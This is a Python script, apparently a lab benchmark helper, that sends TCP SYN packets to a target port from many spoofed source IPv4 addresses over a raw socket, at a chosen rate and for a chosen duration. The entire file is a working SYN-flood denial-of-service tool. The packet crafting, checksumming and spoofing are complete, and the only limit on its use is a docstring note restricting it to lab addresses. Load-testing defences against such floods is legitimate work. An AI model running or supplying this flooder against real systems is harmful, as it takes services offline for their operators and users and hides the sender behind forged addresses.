#!/usr/bin/env python3
"""synflood.py — SYNs from many spoofed sources, for bench/flood_bench.sh.

  synflood.py DST PORT BASE_ADDR NSOURCES PPS SECONDS

Sends TCP SYNs to DST:PORT from NSOURCES consecutive IPv4 addresses
starting at BASE_ADDR (round robin, a new source port each), PPS packets a
second in 10 ms batches, for SECONDS; prints "sent N". Raw socket: root, in
a lab namespace only (lab addresses, never outside the lab).
"""
import ipaddress
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, src, dst)
    return ip + tcp


def main():
    dst, port = sys.argv[1], int(sys.argv[2])
    base = ipaddress.IPv4Address(sys.argv[3])
    nsrc, pps, secs = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    d = socket.inet_aton(dst)
    srcs = [(base + i).packed for i in range(nsrc)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    batch = max(1, pps // 100)
    sent, k, t0 = 0, 0, time.monotonic()
    end = t0 + secs
    while time.monotonic() < end:
        for _ in range(batch):
            src = srcs[k % nsrc]
            sport = 1024 + (k // nsrc) % 60000
            try:
                s.sendto(syn(src, d, sport, port, k), (dst, 0))
                sent += 1
            except OSError:
                pass
            k += 1
        nxt = t0 + sent / pps
        delay = nxt - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print("sent", sent)


if __name__ == "__main__":
    main()
